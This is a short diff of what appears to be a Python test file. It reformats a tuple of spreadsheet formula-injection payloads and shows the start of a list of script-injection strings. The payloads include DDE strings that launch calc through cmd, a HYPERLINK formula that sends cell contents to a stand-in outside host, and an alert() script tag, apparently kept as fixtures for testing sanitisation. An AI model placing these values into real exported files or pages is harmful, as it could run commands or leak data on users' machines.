@@ -28,16 +28,8 @@ def bounded() -> Iterator[None]:
 
 
 FORMULAS = (
-    "=1+1",
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("https://elsewhere.example/?"&A1)',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+9)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    '=1+1","=2+2',
-    "=1\n=2",
+    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://elsewhere.example/?"&A1)', "+1+cmd|' /C calc'!A0"),
+    *("-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '=1+1","=2+2', "=1\n=2"),
 )
 MARKUP = (
     "</script><script>alert(1)</script>",
